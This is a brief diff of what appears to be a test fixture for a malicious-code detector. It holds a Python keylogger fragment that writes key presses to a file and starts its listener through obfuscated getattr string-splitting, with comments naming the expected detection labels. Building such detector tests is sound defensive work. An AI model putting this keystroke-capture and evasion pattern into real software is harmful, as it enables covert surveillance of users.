@@ -8,4 +8,4 @@ def pressed(key):
         file.write(str(key)) # expect: data-exfiltration/keylog-screen-mic
 
 
-getattr(device, "Listen" + "er")(on_press=pressed).start()
+getattr(device, "Listen" + "er")(on_press=pressed).start() # expect: malicious-command/obfuscated-api-access
